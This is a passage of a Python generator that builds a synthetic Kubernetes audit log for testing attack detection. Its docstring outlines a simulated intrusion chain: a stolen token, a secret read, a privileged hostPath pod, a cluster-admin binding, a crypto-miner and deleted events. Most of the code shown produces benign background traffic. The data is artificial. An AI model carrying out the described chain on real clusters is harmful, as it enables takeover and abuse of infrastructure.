"""Deterministic generator of the bundled sample audit log (`cluster-sample.jsonl.gz`).

Thirty minutes of a busy six-node cluster (kubelets, controllers, scheduler, add-ons, a CI
deployer, people with kubectl) with an attack woven in: a stolen service-account token used
from outside the cluster for discovery, a secret read that yields a cluster-admin CI token, a
privileged `hostPath: /` pod in kube-system, exec into it, a cluster-admin binding for a new
service account, a crypto-miner DaemonSet and deleted events. `README.md` tells the story
with timestamps; `python -m replay.sample.generate --timeline` prints it from the code.

Pure core: `build_sample` returns the events and the story; `render_jsonl` and `gzip_bytes`
turn them into the file's bytes. Nothing reads the clock: a seeded `random.Random` and a
fixed start time make every run byte-identical (for a given zlib).

>>> sample = build_sample()
>>> len(sample.events), sample.events[0]["stageTimestamp"], sample.story[0].step
(4611, '2026-11-24T14:00:00.260698Z', '1a')
>>> gzip_bytes(render_jsonl(sample.events)) == gzip_bytes(render_jsonl(build_sample().events))
True
"""

from __future__ import annotations

import argparse
import base64
import gzip
import json
import random
import sys
import uuid
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote

Json = dict[str, Any]

SEED: Final = 20261124
#: The first instant of the window; `stageTimestamp`s run from here for `WINDOW_US`.
START: Final = datetime(2026, 11, 24, 14, 0, 0, tzinfo=UTC)
SEC: Final = 1_000_000
MS: Final = 1_000
WINDOW_US: Final = 30 * 60 * SEC

K8S_VERSION: Final = "v1.30.2"
_UA_TAIL: Final = f"{K8S_VERSION} (linux/amd64) kubernetes/3968350"
ATTACKER_IP: Final = "203.0.113.66"  # RFC 5737 TEST-NET-3: documentation range, not routable
ATTACKER_CURL_UA: Final = "curl/8.5.0"
#: kubectl names itself after argv[0]: the attacker's copy was dropped as `/tmp/.k`.
ATTACKER_KUBECTL_UA: Final = ".k/v1.30.1 (linux/amd64) kubernetes/7c48c2b"

_SA_GROUPS = ("system:serviceaccounts", "system:serviceaccounts:{ns}", "system:authenticated")
_SUFFIX_ALPHABET = "bcdfghjklmnpqrstvwxz2456789"  # k8s.io/apimachinery rand.String alphabet


def ts(t_us: int) -> str:
    """Render an offset from `START` (microseconds) as a MicroTime string.

    >>> ts(61 * SEC + 5)
    '2026-11-24T14:01:01.000005Z'
    """
    return (START + timedelta(microseconds=t_us)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def at(minute: int, second: float = 0.0) -> int:
    """Offset of minute:second after `START`, in microseconds."""
    return minute * 60 * SEC + round(second * SEC)


# --------------------------------------------------------------------------- actors


@dataclass(frozen=True)
class Actor:
    """Who sends requests: identity, client and where from, plus the usual RBAC reason."""

    username: str
    groups: tuple[str, ...]
    user_agent: str
    source_ip: str
    reason: str = ""
    uid: str | None = None
    extra: dict[str, list[str]] = field(default_factory=dict, compare=False)

    def user(self) -> Json:
        """The audit `user` object."""
        out: Json = {"username": self.username}
        if self.uid:
            out["uid"] = self.uid
        out["groups"] = list(self.groups)
        if self.extra:
            out["extra"] = self.extra
        return out


def _sa_actor(ns: str, name: str, ua: str, ip: str, reason: str, uid: str, **kw: Any) -> Actor:
    groups = tuple(g.format(ns=ns) for g in _SA_GROUPS)
    return Actor(f"system:serviceaccount:{ns}:{name}", groups, ua, ip, reason, uid, **kw)


def _rbac(kind: str, binding: str, role_kind: str, role: str, subject: str) -> str:
    return f'RBAC: allowed by {kind} "{binding}" of {role_kind} "{role}" to {subject}'


def _controller_reason(name: str) -> str:
    return _rbac(
        "ClusterRoleBinding",
        f"system:controller:{name}",
        "ClusterRole",
        f"system:controller:{name}",
        f'ServiceAccount "{name}/kube-system"',
    )


# --------------------------------------------------------------------------- resources

#: resource -> (apiGroup, apiVersion, namespaced)
_RESOURCES: Final[dict[str, tuple[str, str, bool]]] = {
    "pods": ("", "v1", True),
    "configmaps": ("", "v1", True),
    "secrets": ("", "v1", True),
    "services": ("", "v1", True),
    "endpoints": ("", "v1", True),
    "events": ("", "v1", True),
    "serviceaccounts": ("", "v1", True),
    "namespaces": ("", "v1", False),
    "nodes": ("", "v1", False),
    "persistentvolumeclaims": ("", "v1", True),
    "leases": ("coordination.k8s.io", "v1", True),
    "deployments": ("apps", "v1", True),
    "replicasets": ("apps", "v1", True),
    "daemonsets": ("apps", "v1", True),
    "statefulsets": ("apps", "v1", True),
    "cronjobs": ("batch", "v1", True),
    "roles": ("rbac.authorization.k8s.io", "v1", True),
    "rolebindings": ("rbac.authorization.k8s.io", "v1", True),
    "clusterroles": ("rbac.authorization.k8s.io", "v1", False),
    "clusterrolebindings": ("rbac.authorization.k8s.io", "v1", False),
    "endpointslices": ("discovery.k8s.io", "v1", True),
    "csinodes": ("storage.k8s.io", "v1", False),
    "certificatesigningrequests": ("certificates.k8s.io", "v1", False),
    "selfsubjectrulesreviews": ("authorization.k8s.io", "v1", False),
    "selfsubjectaccessreviews": ("authorization.k8s.io", "v1", False),
    "ciliumendpoints": ("cilium.io", "v2", True),
    "ciliumnetworkpolicies": ("cilium.io", "v2", True),
}
_KINDS: Final = {
    "pods": "Pod",
    "configmaps": "ConfigMap",
    "secrets": "Secret",
    "services": "Service",
    "serviceaccounts": "ServiceAccount",
    "deployments": "Deployment",
    "replicasets": "ReplicaSet",
    "daemonsets": "DaemonSet",
    "clusterrolebindings": "ClusterRoleBinding",
    "endpoints": "Endpoints",
    "events": "Event",
}
#: Writes to these are logged at RequestResponse (bodies), everything else at Metadata.
_BODY_RESOURCES: Final = frozenset(
    {
        "pods",
        "deployments",
        "replicasets",
        "daemonsets",
        "statefulsets",
        "cronjobs",
        "configmaps",
        "secrets",
        "serviceaccounts",
        "services",
        "roles",
        "rolebindings",
        "clusterroles",
        "clusterrolebindings",
    }
)
_READ_VERBS: Final = frozenset({"get", "list", "watch"})


@dataclass(frozen=True)
class Target:
    """The object (or collection) a request is about: its URI and audit `objectRef`."""

    resource: str
    namespace: str | None = None
    name: str | None = None
    subresource: str | None = None
    group: str | None = None  # overrides the catalogue (e.g. pods in metrics.k8s.io)
    version: str | None = None
    ref_name: bool = True  # False when the name is generated server-side (generateName)

    @property
    def api(self) -> tuple[str, str]:
        """(apiGroup, apiVersion)."""
        group, version, _ = _RESOURCES.get(self.resource, ("", "v1", True))
        return (self.group if self.group is not None else group, self.version or version)

    def uri(self, query: str = "", *, collection: bool = False) -> str:
        """The request path as a client sends it (`collection`: a create POSTs to the list)."""
        group, version = self.api
        parts = ["/api/v1" if not group else f"/apis/{group}/{version}"]
        if self.namespace:
            parts.append(f"namespaces/{self.namespace}")
        parts.append(self.resource)
        if self.name and (self.subresource or not collection):
            parts.append(self.name)
        if self.subresource:
            parts.append(self.subresource)
        path = "/".join(parts)
        return f"{path}?{query}" if query else path

    def object_ref(self) -> Json:
        """The audit `objectRef` (apiGroup omitted for the core group, as the apiserver does)."""
        group, version = self.api
        ref: Json = {"resource": self.resource}
        if self.namespace:
            ref["namespace"] = self.namespace
        if self.name and self.ref_name:
            ref["name"] = self.name
        if group:
            ref["apiGroup"] = group
        ref["apiVersion"] = version
        if self.subresource:
            ref["subresource"] = self.subresource
        return ref


def _uri(target: Target | None, verb: str, query: str) -> str:
    if target is None:
        return "/"
    return target.uri(query, collection=verb == "create" and target.subresource is None)


def _level(target: Target | None, verb: str) -> str:
    """The audit level our sample policy assigns (see README: 'Audit policy')."""
    if target is None or verb in _READ_VERBS:
        return "Metadata"
    if target.subresource in ("exec", "attach", "portforward"):
        return "Request"
    if target.subresource is None and target.resource in _BODY_RESOURCES:
        return "RequestResponse"
    return "Metadata"


def _failure(code: int, actor: Actor, verb: str, target: Target | None) -> Json:
    """The `responseStatus` of a failed request, worded as the apiserver words it."""
    assert target is not None
    group, _ = target.api
    res = f"{target.resource}/{target.subresource}" if target.subresource else target.resource
    qual = f"{target.resource}.{group}" if group else target.resource
    if code == 403:
        scope = (
            f'in the namespace "{target.namespace}"' if target.namespace else "at the cluster scope"
        )
        subject = f'"{target.name}" ' if target.name else ""
        message = (
            f'{qual} {subject}is forbidden: User "{actor.username}" cannot {verb} resource '
            f'"{res}" in API group "{group}" {scope}'
        )
        details: Json = {"kind": target.resource}
        if target.name:
            details = {"name": target.name, **details}
        if group:
            details["group"] = group
        return {
            "metadata": {},
            "status": "Failure",
            "message": message,
            "reason": "Forbidden",
            "details": details,
            "code": 403,
        }
    if code == 404:
        details = {"name": target.name, "kind": target.resource}
        if group:
            details["group"] = group
        return {
            "metadata": {},
            "status": "Failure",
            "message": f'{qual} "{target.name}" not found',
            "reason": "NotFound",
            "details": details,
            "code": 404,
        }
    if code == 409:
        message = (
            f'Operation cannot be fulfilled on {qual} "{target.name}": the object has been '
            "modified; please apply your changes to the latest version and try again"
        )
        details = {"name": target.name, "kind": target.resource}
        if group:
            details["group"] = group
        return {
            "metadata": {},
            "status": "Failure",
            "message": message,
            "reason": "Conflict",
            "details": details,
            "code": 409,
        }
    raise ValueError(f"no failure template for {code}")


# --------------------------------------------------------------------------- the log


@dataclass(frozen=True)
class StoryStep:
    """One attack event: where it sits in the log and what it should trigger."""

    step: str
    time: str
    audit_id: str
    stage: str
    verb: str
    target: str
    code: int
    what: str
    expect: str


@dataclass(frozen=True)
class Sample:
    """The generated log (events in file order), the attack story and benign look-alikes."""

    events: list[Json]
    story: list[StoryStep]
    benign: list[StoryStep]  # steps B1..: must not alert at medium or above


class _Log:
    """Collects events from every actor, then orders them as the log backend writes them."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self._items: list[tuple[int, int, Json]] = []
        self._marks: dict[int, tuple[str, str, str]] = {}
        self.pod_events: dict[str, list[str]] = {}  # pod name -> names of its core/v1 Events

    # ids ------------------------------------------------------------------
    def uuid(self) -> str:
        """A version-4 UUID from the seeded RNG."""
        return str(uuid.UUID(int=self.rng.getrandbits(128), version=4))

    def suffix(self, n: int = 5) -> str:
        """A generateName-style random suffix."""
        return "".join(self.rng.choice(_SUFFIX_ALPHABET) for _ in range(n))

    def hexid(self, n: int) -> str:
        """Random lowercase hex digits (Event name suffixes, hashes)."""
        return f"{self.rng.getrandbits(4 * n):0{n}x}"

    def rv(self, t: int) -> str:
        """A resourceVersion that grows with time, as etcd revisions do."""
        return str(48_210_000 + t // 40_000 + self.rng.randrange(16))

    def jitter(self, ms: float) -> int:
        """A symmetric random offset of at most `ms` milliseconds."""
        return round(self.rng.uniform(-ms, ms) * MS)

    def latency(self, verb: str) -> int:
        """Server latency in microseconds, by verb."""
        lo, hi = {"get": (0.6, 6), "list": (2, 30), "create": (3, 25), "delete": (4, 30)}.get(
            verb, (2, 15)
        )
        return round(self.rng.uniform(lo, hi) * MS)

    # events ---------------------------------------------------------------
    def emit(
        self,
        t: int,
        actor: Actor,
        verb: str,
        target: Target | None,
        *,
        uri: str | None = None,
        query: str = "",
        code: int = 200,
        stage: str = "ResponseComplete",
        received: int | None = None,
        req: Json | None = None,
        resp: Json | None = None,
        reason: str | None = None,
        annotations: dict[str, str] | None = None,
        audit_id: str | None = None,
    ) -> Json:
        """Record one audit event whose request arrives at `t` (or `received`)."""
        start = t if received is None else received
        done = t + self.latency(verb) if received is None else t
        level = _level(target, verb)
        if code == 403:
            decision, why = "forbid", ""
        else:
            decision, why = "allow", actor.reason if reason is None else reason
        status = (
            _failure(code, actor, verb, target) if code >= 400 else {"metadata": {}, "code": code}
        )
        ev: Json = {
            "kind": "Event",
            "apiVersion": "audit.k8s.io/v1",
            "level": level,
            "auditID": audit_id or self.uuid(),
            "stage": stage,
            "requestURI": uri if uri is not None else _uri(target, verb, query),
            "verb": verb,
            "user": actor.user(),
            "sourceIPs": [actor.source_ip],
            "userAgent": actor.user_agent,
        }
        if target is not None:
            ev["objectRef"] = target.object_ref()
        ev["responseStatus"] = status
        if req is not None and level in ("Request", "RequestResponse"):
            ev["requestObject"] = req
        if resp is not None and level == "RequestResponse" and code < 400:
            ev["responseObject"] = resp
        ev["requestReceivedTimestamp"] = ts(start)
        ev["stageTimestamp"] = ts(done)
        ev["annotations"] = {
            "authorization.k8s.io/decision": decision,
            "authorization.k8s.io/reason": why,
            **(annotations or {}),
        }
        self._items.append((done, len(self._items), ev))
        return ev

    def watch(self, t: int, actor: Actor, target: Target, *, selector: str = "") -> int:
        """A watch opened at `t`: ResponseStarted now, ResponseComplete when it times out."""
        timeout = self.rng.randrange(300, 600)
        query = "allowWatchBookmarks=true"
        if selector:
            query += f"&fieldSelector={quote(selector, safe='')}"
        query += (
            f"&resourceVersion={self.rv(t)}&timeout={timeout // 60}m{timeout % 60}s"
            f"&timeoutSeconds={timeout}&watch=true"
        )
        audit_id = self.uuid()
        started = t + self.rng.randrange(300, 2500)
        ended = t + timeout * SEC + self.rng.randrange(500, 4000)
        if started >= 0:
            self.emit(
                started,
                actor,
                "watch",
                target,
                query=query,
                stage="ResponseStarted",
                received=t,
                audit_id=audit_id,
            )
        if 0 <= ended < WINDOW_US:
            self.emit(ended, actor, "watch", target, query=query, received=t, audit_id=audit_id)
        return ended

    def mark(self, ev: Json, step: str, what: str, expect: str) -> None:
        """Tag an event as a step of the attack story, or (step "B") as a benign look-alike.

        Look-alikes are numbered B1, B2... in log order by `finish`.
        """
        self._marks[id(ev)] = (step, what, expect)

    def finish(self) -> Sample:
        """Events in log order (stage time, then emission order) and the story in that order."""
        ordered = sorted(
            (item for item in self._items if 0 <= item[0] < WINDOW_US), key=lambda i: i[:2]
        )
        events = [ev for _, _, ev in ordered]
        story: list[StoryStep] = []
        benign: list[StoryStep] = []
        for ev in events:
            mark = self._marks.get(id(ev))
            if mark is None:
                continue
            ref = ev.get("objectRef")
            if ref is None:
                where = ev["requestURI"]
            else:
                parts = (
                    ref.get("namespace"),
                    ref["resource"],
                    ref.get("name"),
                    ref.get("subresource"),
                )
                where = "/".join(x for x in parts if x)
            is_benign = mark[0] == "B"
            (benign if is_benign else story).append(
                StoryStep(
                    step=f"B{len(benign) + 1}" if is_benign else mark[0],
                    time=ev["stageTimestamp"],
                    audit_id=ev["auditID"],
                    stage=ev["stage"],
                    verb=ev["verb"],
                    target=where,
                    code=ev["responseStatus"]["code"],
                    what=mark[1],
                    expect=mark[2],
                )
            )
        return Sample(events, story, benign)


# --------------------------------------------------------------------------- cluster model


@dataclass
class Node:
    """A node: name, IP, pod CIDR prefix and when it joined (negative: before the window)."""

    name: str
    ip: str
    pod_net: str
    joined: int = -3600 * SEC
    uid: str = ""


@dataclass
class Pod:
    """A running pod the generator keeps track of (for kubelets, apps and tokens)."""

    name: str
    namespace: str
    node: Node
    ip: str
    uid: str
    service_account: str
    started: int
    deleted: int = WINDOW_US * 2
    jti: str = ""  # id of the projected token the pod presents (set on first use)


@dataclass
class Cluster:
    """Identities and state shared by the actor generators."""

    log: _Log
    nodes: list[Node]
    pods: list[Pod] = field(default_factory=list)
    sa_uids: dict[str, str] = field(default_factory=dict)

    def sa_uid(self, ns: str, name: str) -> str:
        """The (stable) uid of a service account."""
        key = f"{ns}/{name}"
        if key not in self.sa_uids:
            self.sa_uids[key] = self.log.uuid()
        return self.sa_uids[key]

    def kubelet(self, node: Node) -> Actor:
        """The node's kubelet (authorised by the Node authorizer: empty reason)."""
        return Actor(
            f"system:node:{node.name}",
            ("system:nodes", "system:authenticated"),
            f"kubelet/{_UA_TAIL}",
            node.ip,
        )

    def controller(self, name: str) -> Actor:
        """A kube-controller-manager controller running under its own service account."""
        return _sa_actor(
            "kube-system",
            name,
            f"kube-controller-manager/{_UA_TAIL}/system:serviceaccount:kube-system:{name}",
            CP_IP,
            _controller_reason(name),
            self.sa_uid("kube-system", name),
        )

    def addon(self, ns: str, name: str, ua: str, ip: str, binding: str, role: str) -> Actor:
        """An add-on's service account bound by a ClusterRoleBinding."""
        reason = _rbac(
            "ClusterRoleBinding", binding, "ClusterRole", role, f'ServiceAccount "{name}/{ns}"'
        )
        return _sa_actor(ns, name, ua, ip, reason, self.sa_uid(ns, name))

    def pod_ip(self, node: Node) -> str:
        """A fresh pod IP on the node's pod network."""
        return f"{node.pod_net}.{self.log.rng.randrange(2, 250)}"

    def live(self, namespace: str, prefix: str, t: int) -> list[Pod]:
        """Pods of one workload alive at `t`."""
        return [
            p
            for p in self.pods
            if p.namespace == namespace and p.name.startswith(prefix) and p.started <= t < p.deleted
        ]


CP_IP: Final = "10.0.0.10"
_KCM_UA: Final = f"kube-controller-manager/{_UA_TAIL}"
_SCHED_UA: Final = f"kube-scheduler/{_UA_TAIL}"
KCM = Actor(
    "system:kube-controller-manager",
    ("system:authenticated",),
    f"{_KCM_UA}/leader-election",
    CP_IP,
    _rbac(
        "ClusterRoleBinding",
        "system:kube-controller-manager",
        "ClusterRole",
        "system:kube-controller-manager",
        'User "system:kube-controller-manager"',
    ),
)
SCHEDULER = Actor(
    "system:kube-scheduler",
    ("system:authenticated",),
    f"{_SCHED_UA}/leader-election",
    CP_IP,
    _rbac(
        "ClusterRoleBinding",
        "system:kube-scheduler",
        "ClusterRole",
        "system:kube-scheduler",
        'User "system:kube-scheduler"',
    ),
)
SCHEDULER_BIND = Actor(
    SCHEDULER.username, SCHEDULER.groups, f"{_SCHED_UA}/scheduler", CP_IP, SCHEDULER.reason
)
APISERVER = Actor(
    "system:apiserver",
    ("system:authenticated", "system:masters"),
    f"kube-apiserver/{_UA_TAIL}",
    "::1",
)
PROBE = Actor(
    "system:anonymous",
    ("system:unauthenticated",),
    "kube-probe/1.30",
    CP_IP,
    _rbac(
        "ClusterRoleBinding",
        "system:public-info-viewer",
        "ClusterRole",
        "system:public-info-viewer",
        'Group "system:unauthenticated"',
    ),
)


def _human(name: str, group: str, ua: str, ip: str, reason: str) -> Actor:
    return Actor(name, (group, "system:authenticated"), ua, ip, reason)


JANE = _human(  # SRE, on-call
    "jane.doe@example.com",
    "oidc:sre",
    "kubectl/v1.30.1 (darwin/arm64) kubernetes/7c48c2b",
    "10.8.0.14",
    _rbac("ClusterRoleBinding", "sre-edit", "ClusterRole", "edit", 'Group "oidc:sre"'),
)
RAJ = _human(  # storefront developer
    "raj.patel@example.com",
    "oidc:storefront-devs",
    "kubectl/v1.29.6 (linux/amd64) kubernetes/062798d",
    "10.8.0.37",
    _rbac(
        "RoleBinding",
        "storefront-devs/storefront",
        "ClusterRole",
        "view",
        'Group "oidc:storefront-devs"',
    ),
)
MEI = _human(  # platform admin
    "mei.chen@example.com",
    "oidc:platform-admins",
    "kubectl/v1.30.1 (darwin/arm64) kubernetes/7c48c2b",
    "10.8.0.22",
    _rbac(
        "ClusterRoleBinding",
        "platform-admins",
        "ClusterRole",
        "cluster-admin",
        'Group "oidc:platform-admins"',
    ),
)
_CI_REASON: Final = _rbac(
    "ClusterRoleBinding",
    "gitlab-deployer",
    "ClusterRole",
    "cluster-admin",
    'ServiceAccount "gitlab-deployer/ci"',
)
_LEGACY_TOKEN: Final = {"authentication.k8s.io/legacy-token": "gitlab-deployer-token"}


def _make_cluster(log: _Log) -> Cluster:
    nodes = [Node("k8s-cp-1", CP_IP, "10.244.0")]
    nodes += [Node(f"k8s-worker-{i}", f"10.0.1.{10 + i}", f"10.244.{i}") for i in range(1, 5)]
    nodes.append(Node("k8s-worker-5", "10.0.1.15", "10.244.5", joined=at(8, 20.4)))
    cluster = Cluster(log, nodes)
    for node in nodes:
        node.uid = log.uuid()
    return cluster


# --------------------------------------------------------------------------- object bodies


def _meta(
    name: str | None,
    namespace: str | None,
    *,
    uid: str | None = None,
    rv: str | None = None,
    created: int | None = None,
    generate_name: str | None = None,
    labels: dict[str, str] | None = None,
    annotations: dict[str, str] | None = None,
    owner: Json | None = None,
) -> Json:
    meta: Json = {}
    if name:
        meta["name"] = name
    if generate_name:
        meta["generateName"] = generate_name
    if namespace:
        meta["namespace"] = namespace
    if uid:
        meta["uid"] = uid
    if rv:
        meta["resourceVersion"] = rv
    meta["creationTimestamp"] = ts(created)[:19] + "Z" if created is not None else None
    if labels:
        meta["labels"] = labels
    if annotations:
        meta["annotations"] = annotations
    if owner:
        meta["ownerReferences"] = [owner]
    return meta


def _compact(obj: Json) -> str:
    """JSON as kubectl writes last-applied-configuration: sorted keys, no spaces."""
    return json.dumps(obj, sort_keys=True, separators=(",", ":"))


def _owner(kind: str, name: str, uid: str) -> Json:
    return {
        "apiVersion": "apps/v1",
        "kind": kind,
        "name": name,
        "uid": uid,
        "controller": True,
        "blockOwnerDeletion": True,
    }


def _container(name: str, image: str, **extra: Any) -> Json:
    c: Json = {"name": name, "image": image}
    c.update(extra)
    c.setdefault("resources", {})
    c["terminationMessagePath"] = "/dev/termination-log"
    c["terminationMessagePolicy"] = "File"
    c["imagePullPolicy"] = "IfNotPresent"
    return c


def _deepcopy(obj: Json) -> Json:
    """A deep copy of a JSON object (bodies are shared between request and response)."""
    copied: Json = json.loads(json.dumps(obj))
    return copied


def _admitted(spec: Json, sa: str, node: str | None, token_vol: str) -> Json:
    """The spec as stored: defaults and the projected service-account token volume added."""
    out: Json = _deepcopy(spec)
    out.setdefault("volumes", []).append(
        {
            "name": token_vol,
            "projected": {
                "sources": [
                    {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
                    {
                        "configMap": {
                            "name": "kube-root-ca.crt",
                            "items": [{"key": "ca.crt", "path": "ca.crt"}],
                        }
                    },
                    {
                        "downwardAPI": {
                            "items": [
                                {
                                    "path": "namespace",
                                    "fieldRef": {
                                        "apiVersion": "v1",
                                        "fieldPath": "metadata.namespace",
                                    },
                                }
                            ]
                        }
                    },
                ],
                "defaultMode": 420,
            },
        }
    )
    for c in out["containers"]:
        c.setdefault("volumeMounts", []).append(
            {
                "name": token_vol,
                "readOnly": True,
                "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount",
            }
        )
    out.setdefault("restartPolicy", "Always")
    out["terminationGracePeriodSeconds"] = out.get("terminationGracePeriodSeconds", 30)
    out.setdefault("dnsPolicy", "ClusterFirst")
    out["serviceAccountName"] = sa
    out["serviceAccount"] = sa
    if node:
        out["nodeName"] = node
    out.setdefault("securityContext", {})
    out["schedulerName"] = "default-scheduler"
    out["enableServiceLinks"] = True
    out["preemptionPolicy"] = "PreemptLowerPriority"
    return out


# --------------------------------------------------------------------------- background


def _leases(c: Cluster) -> None:
    """Node heartbeats (10 s), leader-election renewals (2 s), apiserver identity (10 s)."""
    log = c.log
    for node in c.nodes:
        kubelet = c.kubelet(node)
        target = Target("leases", "kube-node-lease", node.name)
        if node.joined >= 0:
            log.emit(
                node.joined + 900 * MS, kubelet, "create", target, query="timeout=10s", code=201
            )
            t = node.joined + 10 * SEC
        else:
            t = log.rng.randrange(10 * SEC)
        while t < WINDOW_US:
            log.emit(t + log.jitter(30), kubelet, "update", target, query="timeout=10s")
            t += 10 * SEC
    for actor, name in ((KCM, "kube-controller-manager"), (SCHEDULER, "kube-scheduler")):
        target = Target("leases", "kube-system", name)
        t = log.rng.randrange(2 * SEC)
        while t < WINDOW_US:
            log.emit(t + log.jitter(15), actor, "update", target, query="timeout=5s")
            t += 2 * SEC
    target = Target("leases", "kube-system", "apiserver-e3ttqxcgysfyvc5vbd4bqu5p3a")
    t = log.rng.randrange(10 * SEC)
    while t < WINDOW_US:
        log.emit(t + log.jitter(5), APISERVER, "update", target)
        t += 10 * SEC


def _probes(c: Cluster) -> None:
    """Anonymous /livez and /readyz probes of the static apiserver pod, every 10 s."""
    log = c.log
    for path in ("/livez", "/readyz"):
        t = log.rng.randrange(10 * SEC)
        while t < WINDOW_US:
            log.emit(t + log.jitter(3), PROBE, "get", None, uri=path)
            t += 10 * SEC


def _node_status(c: Cluster) -> None:
    """Kubelets read their Node and patch its status about every five minutes."""
    log = c.log
    for node in c.nodes:
        kubelet = c.kubelet(node)
        t = max(node.joined + 12 * SEC, log.rng.randrange(300 * SEC))
        while t < WINDOW_US:
            log.emit(
                t,
                kubelet,
                "get",
                Target("nodes", name=node.name),
                query="resourceVersion=0&timeout=10s",
            )
            log.emit(
                t + 9 * MS,
                kubelet,
                "patch",
                Target("nodes", name=node.name, subresource="status"),
                query="timeout=10s",
            )
            t += 300 * SEC + log.jitter(2000)


def _informers(c: Cluster) -> None:
    """Long-running watches of every informer-based client, re-opened when they time out."""
    log = c.log
    chains: list[tuple[Actor, Target, str, int]] = []
    for node in c.nodes:
        kubelet = c.kubelet(node)
        proxy = c.addon(
            "kube-system",
            "kube-proxy",
            f"kube-proxy/{_UA_TAIL}",
            node.ip,
            "kubeadm:node-proxier",
            "system:node-proxier",
        )
        cilium = c.addon(
            "kube-system",
            "cilium",
            "cilium-agent/v1.15.6 (linux/amd64)",
            node.ip,
            "cilium",
            "cilium",
        )
        start = max(node.joined, -600 * SEC)
        chains += [
            (kubelet, Target("pods"), f"spec.nodeName={node.name}", start),
            (kubelet, Target("nodes"), f"metadata.name={node.name}", start),
            (kubelet, Target("services"), "", start),
            (proxy, Target("endpointslices"), "", start),
            (proxy, Target("services"), "", start),
            (cilium, Target("ciliumendpoints"), "", start),
            (cilium, Target("pods"), f"spec.nodeName={node.name}", start),
            (cilium, Target("ciliumnetworkpolicies"), "", start),
        ]
    kcm_informers = [
        "pods",
        "replicasets",
        "deployments",
        "daemonsets",
        "nodes",
        "endpointslices",
        "services",
        "serviceaccounts",
        "secrets",
        "namespaces",
    ]
    informer = Actor(KCM.username, KCM.groups, f"{_KCM_UA}/shared-informers", CP_IP, KCM.reason)
    chains += [(informer, Target(r), "", -600 * SEC) for r in kcm_informers]
    sched = Actor(
        SCHEDULER.username, SCHEDULER.groups, f"{_SCHED_UA}/scheduler", CP_IP, SCHEDULER.reason
    )
    chains += [
        (sched, Target("pods"), "status.phase!=Succeeded,status.phase!=Failed", -600 * SEC),
        (sched, Target("nodes"), "", -600 * SEC),
        (sched, Target("csinodes"), "", -600 * SEC),
        (sched, Target("persistentvolumeclaims"), "", -600 * SEC),
    ]
    coredns = [
        c.addon(
            "kube-system",
            "coredns",
            "coredns/v0.0.0 (linux/amd64) kubernetes/$Format",
            ip,
            "system:coredns",
            "system:coredns",
        )
        for ip in ("10.244.0.2", "10.244.0.3")
    ]
    for dns in coredns:
        chains += [
            (dns, Target(r), "", -600 * SEC) for r in ("endpointslices", "services", "namespaces")
        ]
    metrics = c.addon(
        "kube-system",
        "metrics-server",
        "metrics-server/v0.7.1 (linux/amd64) kubernetes/$Format",
        "10.244.2.9",
        "system:metrics-server",
        "system:metrics-server",
    )
    chains += [
        (metrics, Target("nodes"), "", -600 * SEC),
        (
            metrics,
            Target("configmaps", "kube-system"),
            "metadata.name=extension-apiserver-authentication",
            -600 * SEC,
        ),
    ]
    prom = c.addon(
        "monitoring",
        "prometheus-k8s",
        "Prometheus/2.51.2",
        "10.244.3.21",
        "prometheus-k8s",
        "prometheus-k8s",
    )
    chains += [(prom, Target(r), "", -600 * SEC) for r in ("pods", "endpoints", "services")]
    for actor, target, selector, start in chains:
        t = start + log.rng.randrange(600 * SEC) if start < 0 else start + 2 * SEC
        while t < WINDOW_US:
            t = log.watch(t, actor, target, selector=selector) + log.rng.randrange(MS, 40 * MS)


def _polling(c: Cluster) -> None:
    """HPA metrics reads (15 s) and Prometheus scraping the apiserver's /metrics (30 s)."""
    log = c.log
    hpa = c.controller("horizontal-pod-autoscaler")
    t = log.rng.randrange(15 * SEC)
    target = Target("pods", "storefront", group="metrics.k8s.io", version="v1beta1")
    while t < WINDOW_US:
        log.emit(t, hpa, "list", target, query="labelSelector=app%3Dstorefront-web")
        t += 15 * SEC + log.jitter(40)
    prom = c.addon(
        "monitoring",
        "prometheus-k8s",
        "Prometheus/2.51.2",
        "10.244.3.21",
        "prometheus-k8s",
        "prometheus-k8s",
    )
    t = log.rng.randrange(30 * SEC)
    while t < WINDOW_US:
        log.emit(t, prom, "get", None, uri="/metrics")
        t += 30 * SEC + log.jitter(20)


def _storefront_app(c: Cluster) -> None:
    """Each storefront-web pod re-reads its feature-flag ConfigMap every minute."""
    log = c.log
    target = Target("configmaps", "storefront", "storefront-flags")
    reason = _rbac(
        "RoleBinding",
        "storefront-web/storefront",
        "Role",
        "storefront-web",
        'ServiceAccount "storefront-web/storefront"',
    )
    for pod in [p for p in c.pods if p.name.startswith("storefront-web-")]:
        actor = _storefront_actor(c, pod, pod.ip, "OpenAPI-Generator/29.0.0/python", reason)
        t = max(pod.started + 8 * SEC, log.rng.randrange(60 * SEC))
        while t < min(pod.deleted, WINDOW_US):
            log.emit(t, actor, "get", target)
            t += 60 * SEC + log.jitter(300)


def _storefront_actor(c: Cluster, pod: Pod, ip: str, ua: str, reason: str) -> Actor:
    """The storefront-web service account as its pod-bound projected token presents it."""
    if not pod.jti:
        pod.jti = c.log.uuid()
    extra = {
        "authentication.kubernetes.io/credential-id": [f"JTI={pod.jti}"],
        "authentication.kubernetes.io/node-name": [pod.node.name],
        "authentication.kubernetes.io/node-uid": [pod.node.uid],
        "authentication.kubernetes.io/pod-name": [pod.name],
        "authentication.kubernetes.io/pod-uid": [pod.uid],
    }
    return _sa_actor(
        "storefront",
        "storefront-web",
        ua,
        ip,
        reason,
        c.sa_uid("storefront", "storefront-web"),
        extra=extra,
    )


# --------------------------------------------------------------------------- pod lifecycle


def _kubelet_event(c: Cluster, t: int, pod: Pod) -> None:
    """The kubelet records a core/v1 Event about a pod (Metadata level: the reason is unseen)."""
    name = f"{pod.name}.{c.log.hexid(16)}"
    c.log.pod_events.setdefault(pod.name, []).append(name)
    c.log.emit(t, c.kubelet(pod.node), "create", Target("events", pod.namespace, name))


def _start_pod(c: Cluster, t: int, pod: Pod, mounts: Sequence[tuple[str, str]] = ()) -> None:
    """What happens after a pod is bound to a node: token, mounts, CNI, events, status."""
    log, node = c.log, pod.node
    kubelet = c.kubelet(node)
    log.emit(
        t + 30 * MS,
        kubelet,
        "create",
        Target("serviceaccounts", pod.namespace, pod.service_account, subresource="token"),
